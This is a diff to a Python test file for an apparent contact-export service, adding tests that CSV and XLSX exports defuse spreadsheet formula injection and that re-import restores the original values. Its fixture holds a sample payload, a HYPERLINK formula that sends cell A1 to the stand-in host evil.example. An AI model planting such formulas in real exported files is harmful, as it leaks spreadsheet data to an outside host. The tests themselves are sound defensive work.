@@ -5,6 +5,8 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 from sqlalchemy import event
 from sqlalchemy.orm import Session, sessionmaker
@@ -13,7 +15,8 @@ from rapport.db import models as m
 from rapport.errors import NotFoundError, ValidationError
 from rapport.services.contacts import ContactFilter, list_contacts, show_contact
 from rapport.services.contacts.files import ALL_COLUMNS, export_contacts, import_contacts
-from tests.builders_contact_files import count, execute, read_csv, snapshot
+from rapport.services.contacts.files._safety import TRIGGERS, csv_text, unguard, xlsx_text
+from tests.builders_contact_files import contact, count, execute, read_csv, snapshot, write_csv
 from tests.conftest import TxFactory
 
 _LINKS = "contact_business_relation"
@@ -117,8 +120,8 @@ def test_contact_list_page_costs_the_same_queries_whatever_its_size(
             sizes.append(len([s for s in statements if s.lstrip().upper().startswith("SELECT")]))
     finally:
         event.remove(engine, "before_cursor_execute", count_statement)
-    assert sizes == [2, 2] and page.total == 8 and len(page.rows) == 8
-    assert [r.no for r in page.rows][:3] == ["P3", "C1", "P11"]  # company order, then name
+    assert sizes == [2, 2] and page.total == 8 and len(page.items) == 8
+    assert [r.no for r in page.items][:3] == ["P3", "C1", "P11"]  # company order, then name
 
 
 def test_show_contact_gathers_company_persons_classifications_and_counts(
@@ -133,3 +136,83 @@ def test_show_contact_gathers_company_persons_classifications_and_counts(
     assert (person.interaction_log_entries, person.segment_lines) == (1, 0)
     with pytest.raises(NotFoundError), tx() as ctx:
         show_contact(ctx, "NOPE")
+
+
+FORMULA_LIKE = {  # column → a stored value a spreadsheet program would evaluate
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "phone_no": "+47 22 33 44 55",
+    "mobile_phone_no": "-47 99 88 77 66",
+    "address": "@SUM(A1:A9)",
+}
+QUOTED = {"name_2": "'=already quoted", "county": "'Hordaland", "city": "O'Neill"}
+
+
+def _formula_contact(tx: TxFactory, fixture_db: sessionmaker[Session], tmp_path: Path) -> None:
+    header = ["no", "type", "name", "company_no", *list(FORMULA_LIKE)[1:]]
+    with tx() as ctx:
+        import_contacts(ctx, write_csv(tmp_path / "in.csv", header,
+                                       [["F1", "Company", FORMULA_LIKE["name"], "",
+                                         *list(FORMULA_LIKE.values())[1:]]]))
+    execute(fixture_db, "UPDATE contact SET name_2 = :n, county = :c, city = :t "
+            "WHERE no = 'F1'", n=QUOTED["name_2"], c=QUOTED["county"], t=QUOTED["city"])
+
+
+def test_csv_export_writes_formula_like_text_with_a_quote_in_front(
+        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path) -> None:
+    _formula_contact(tx, fixture_db, tmp_path)
+    assert contact(fixture_db, "F1").name == FORMULA_LIKE["name"]  # stored as imported
+    _export(tx, tmp_path / "out.csv", filt=ContactFilter(company_no="F1"))
+    [row] = read_csv(tmp_path / "out.csv")
+    assert {c: row[c] for c in FORMULA_LIKE} == {c: f"'{v}" for c, v in FORMULA_LIKE.items()}
+    assert (row["name_2"], row["county"], row["city"]) == ("''=already quoted", "'Hordaland",
+                                                           "O'Neill")
+
+
+def test_xlsx_export_writes_formula_like_text_as_string_cells(
+        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path) -> None:
+    _formula_contact(tx, fixture_db, tmp_path)
+    _export(tx, tmp_path / "out.xlsx", filt=ContactFilter(company_no="F1"))
+    sheet = load_workbook(tmp_path / "out.xlsx").worksheets[0]
+    header = [c.value for c in sheet[1]]
+    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert {c: (cells[c].value, cells[c].data_type) for c in FORMULA_LIKE} == {
+        c: (v, "s") for c, v in FORMULA_LIKE.items()}  # never "f", a formula
+    assert cells["name_2"].value == "''=already quoted" and cells["county"].value == "'Hordaland"
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_formula_like_values_survive_an_export_and_reimport(
+        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path, suffix: str) -> None:
+    _formula_contact(tx, fixture_db, tmp_path)
+    path = tmp_path / f"all.{suffix}"
+    _export(tx, path)
+    before = snapshot(fixture_db)
+    with tx() as ctx:  # into the same database: nothing changes
+        assert import_contacts(ctx, path).updated == 0
+    assert snapshot(fixture_db) == before
+    execute(fixture_db, "DELETE FROM contact")
+    with tx() as ctx:  # into an empty contact table: the same values again
+        assert import_contacts(ctx, path).inserted == 9
+    assert _without_links(snapshot(fixture_db)) == _without_links(before)
+    stored = contact(fixture_db, "F1")
+    assert (stored.name, stored.phone_no, stored.name_2) == (
+        FORMULA_LIKE["name"], FORMULA_LIKE["phone_no"], QUOTED["name_2"])
+
+
+def test_xlsx_export_refuses_a_control_character_it_cannot_hold(
+        fixture_db: sessionmaker[Session], tx: TxFactory, tmp_path: Path) -> None:
+    execute(fixture_db, "UPDATE contact SET city = :c WHERE no = 'C2'", c="Be\x07rlin")
+    with pytest.raises(ValidationError) as caught:
+        _export(tx, tmp_path / "all.xlsx")
+    assert caught.value.message == ("File all.xlsx: the row of C2 has a control character in "
+                                    "city, which an XLSX file cannot hold: export to CSV instead")
+    assert not (tmp_path / "all.xlsx").exists()
+    assert _export(tx, tmp_path / "all.csv") == 8
+
+
+@given(st.text(st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=8))
+def test_the_import_undoes_exactly_what_the_export_did_to_a_value(value: str) -> None:
+    written, as_string = xlsx_text(value)
+    assert unguard(csv_text(value)) == value and unguard(written) == value
+    assert csv_text(value)[:1] not in TRIGGERS  # a spreadsheet program never sees a formula
+    assert as_string == (written.lstrip("'")[:1] in TRIGGERS)  # an XLSX string cell then
